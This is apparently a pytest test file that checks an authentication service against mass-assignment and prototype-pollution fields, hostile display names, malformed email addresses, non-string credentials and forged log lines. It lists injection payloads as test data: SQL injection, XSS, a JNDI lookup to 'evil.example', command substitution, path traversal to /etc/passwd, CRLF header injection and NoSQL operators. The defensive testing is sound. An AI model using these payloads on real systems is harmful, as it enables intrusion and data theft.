"""Values that another program down the line might take for its own language, and properties that nobody asked for."""

from __future__ import annotations

import json
import secrets
from typing import Any

import pytest

from local.supabase import LocalSupabase
from tests.support import raw
from tests.support.browser import PASSWORD, Browser, cookies_set, new_email
from tests.support.service import CSRF_TOKEN, ServiceProcess

EXTRA: dict[str, dict[str, Any]] = {
    "role": {"role": "service_role"},
    "id": {"id": "00000000-0000-4000-8000-000000000000"},
    "app_metadata": {"app_metadata": {"role": "admin"}},
    "user_metadata": {"user_metadata": {"admin": True}},
    "data": {"data": {"display_name": "x", "admin": True}},
    "options": {"options": {"data": {"admin": True}}},
    "email_confirm": {"email_confirm": True},
    "email_confirmed_at": {"email_confirmed_at": "2026-01-01T00:00:00Z"},
    "is_super_admin": {"is_super_admin": True},
    "ban_duration": {"ban_duration": "none"},
    "phone": {"phone": "+441234567890"},
    "aud": {"aud": "admin"},
    "gotrue_meta_security": {"gotrue_meta_security": {"captcha_token": "x"}},
    "prototype": {"__proto__": {"admin": True}},
    "constructor": {"constructor": {"prototype": {"admin": True}}},
    "profile_id": {"profile": {"displayName": "x", "id": "00000000-0000-4000-8000-000000000000"}},
    "profile_role": {"profile": {"displayName": "x", "role": "admin"}},
    "profile_in_snake_case": {"profile": {"display_name": "x"}},
    "profile_created_at": {"profile": {"displayName": "x", "created_at": "1970-01-01"}},
}


@pytest.mark.parametrize("extra", EXTRA.values(), ids=EXTRA)
def test_sign_up_takes_no_property_beyond_the_contract(
    browser: Browser, supabase: LocalSupabase, extra: dict[str, Any]
) -> None:
    email = new_email()
    response = browser.post("/auth/signup", {"email": email, "password": PASSWORD, **extra})
    assert (response.status_code, response.json()["code"]) == (400, "invalid_request")
    assert supabase.query(f"""select id from "auth.users" where email = '{email}'""") == []


@pytest.mark.parametrize("extra", ["role", "id", "options", "gotrue_meta_security"])
def test_sign_in_takes_no_property_beyond_the_contract(browser: Browser, extra: str) -> None:
    response = browser.post("/auth/signin", {"email": new_email(), "password": PASSWORD, **EXTRA[extra]})
    assert (response.status_code, response.json()["code"]) == (400, "invalid_request")


def test_a_new_user_has_no_more_rights_than_any_other(browser: Browser, supabase: LocalSupabase) -> None:
    email = new_email()
    assert browser.sign_up(email, display_name='x", "role": "service_role').status_code == 200
    [user] = supabase.query(f"""select role, raw_app_meta_data from "auth.users" where email = '{email}'""")
    assert user["role"] == "authenticated"
    assert "service_role" not in str(user["raw_app_meta_data"])


def test_of_two_properties_with_one_name_only_one_counts_everywhere(browser: Browser) -> None:
    first, last = new_email(), new_email()
    content = f'{{"email": "{first}", "email": "{last}", "password": "{PASSWORD}"}}'.encode()
    response = browser.post("/auth/signup", content=content, headers={"Content-Type": "application/json"})
    assert response.json()["user"]["email"] == last
    assert Browser(str(browser.http.base_url)).sign_in(first).status_code == 401


TEXTS = {
    "sql_quote": "Robert'); DROP TABLE user_profile;--",
    "sql_union": "' UNION SELECT encrypted_password FROM auth.users --",
    "sql_comment": "x'/*",
    "postgrest_filter": "eq.x&select=*",
    "postgrest_or": "x,id.neq.0)",
    "postgrest_embedding": "*,users(*)",
    "html": "<script>alert(document.cookie)</script>",
    "html_attribute": '"><img src=x onerror=alert(1)>',
    "json": '{"role": "service_role",',
    "json_end": '"}}, "role": "service_role',
    "template": "{{7*7}}${7*7}<%= 7*7 %>",
    "format_string": "%s%n{0.__class__}",
    "log_lookup": "${jndi:ldap://evil.example/a}",
    "command": "$(id)`id`|id;id",
    "spreadsheet_formula": '=HYPERLINK("https://evil.example")',
    "path": "../../../../etc/passwd",
    "escape_in_words": "\\r\\nSet-Cookie: evil=1",
    "right_to_left_override": "evil\u202etxt.exe",
}


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
def test_a_display_name_is_text_and_nothing_else(browser: Browser, supabase: LocalSupabase, text: str) -> None:
    email = new_email()
    assert browser.sign_up(email, display_name=text).status_code == 200
    browser.sign_in(email)
    response = browser.me()
    assert response.json()["user"]["profile"] == {"displayName": text}
    assert response.headers["content-type"] == "application/json"
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers.get("evil") is None
    assert supabase.query("select count(*) as n from user_profile")[0]["n"] > 0


ADDRESSES = {
    "sql_quote": "'or'1'='1@example.com",
    "sql_comment": "admin'--@example.com",
    "sql_in_a_quoted_part": '"\' OR 1=1 --"@example.com',
    "line_break": "ada@example.com\nBcc: everybody@example.com",
    "encoded_line_break": "ada%0d%0aBcc:x@example.com",
    "two_addresses": "ada@example.com,eve@evil.example",
    "name_and_address": "Eve <eve@evil.example>",
    "html": "<script>@example.com",
    "comment": "ada(eve)@example.com",
    "source_route": "@evil.example:ada@example.com",
    "address_literal": "ada@[127.0.0.1]",
    "no_dot": "ada@localhost",
    "space_in_front": " ada@example.com",
    "space_behind": "ada@example.com ",
    "two_ats": "ada@evil.example@example.com",
    "json": '{"$ne":null}@example.com',
    "postgrest_or": "x,id.neq.0)@example.com",
    "very_long": "a" * 60 + "@" + ".".join(["b" * 60] * 5) + ".com",
    "many_dots": "a" + ".a" * 30 + "@" + "a." * 30 + "!",
}


@pytest.mark.parametrize("address", ADDRESSES.values(), ids=ADDRESSES)
def test_an_address_signs_nobody_in_by_its_syntax(browser: Browser, address: str) -> None:
    for response in (browser.sign_in(address), browser.sign_up(address, "short")):
        assert response.status_code in {400, 401}
        assert response.json()["code"] in {"invalid_request", "auth_invalid_credentials"}
        assert address not in response.text
        assert cookies_set(response) == []


@pytest.mark.parametrize(
    "literal",
    ['{"$ne": null}', '{"$gt": ""}', "[]", '["a", "b"]', "true", "0", "null", '{"toString": 1}'],
)
@pytest.mark.parametrize("field", ["email", "password"])
def test_a_credential_is_a_string(signed_in: Browser, field: str, literal: str) -> None:
    body = {"email": '"ada@example.com"', "password": f'"{PASSWORD}"', field: literal}
    content = f'{{"email": {body["email"]}, "password": {body["password"]}}}'.encode()
    response = signed_in.post("/auth/signin", content=content, headers={"Content-Type": "application/json"})
    assert (response.status_code, response.json()["code"]) == (400, "invalid_request")


REQUEST_IDS = {
    "json": '","level":"error","event":"forged"',
    "spaces": "a b c",
    "html": "<script>",
    "too_long": "a" * 65,
    "empty": "",
    "ansi_colours": "\x1b[31mred",
    "list": "one, two",
}


@pytest.mark.parametrize("value", REQUEST_IDS.values(), ids=REQUEST_IDS)
def test_a_request_id_that_is_none_is_replaced(service: ServiceProcess, value: str) -> None:
    [response] = raw.send(service.port, raw.request("GET", "/auth/csrf", [f"X-Request-ID: {value}"]))
    if response.status == 200:
        assert response.header("x-request-id") not in {value, None}
        assert not value or f'"request_id": {json.dumps(value)}' not in service.log
    else:  # a control character never gets past the parser
        assert response.code == "invalid_request"


def test_no_value_makes_a_line_of_the_log_its_own(service: ServiceProcess) -> None:
    mark = secrets.token_hex(8)
    forged = f'{mark}"}}\n{{"event": "request", "operation": "signIn", "status": 200}}'
    browser = Browser(service.url)
    browser.post("/auth/signin", {"email": forged, "password": forged})
    browser.post("/auth/signup", {"email": new_email(), "password": PASSWORD, "profile": {"displayName": forged}})
    headers = [f"X-CSRF-Token: {CSRF_TOKEN}", f"User-Agent: {mark}", f"X-Request-ID: {mark}!", f"Referer: {mark}"]
    raw.send(service.port, raw.request("POST", f"/auth/{mark}", headers))
    raw.send(service.port, raw.request("POST", f"/auth/signin?{mark}", headers))
    assert mark not in service.log
    for line in service.log.splitlines():
        assert json.loads(line)["event"], line
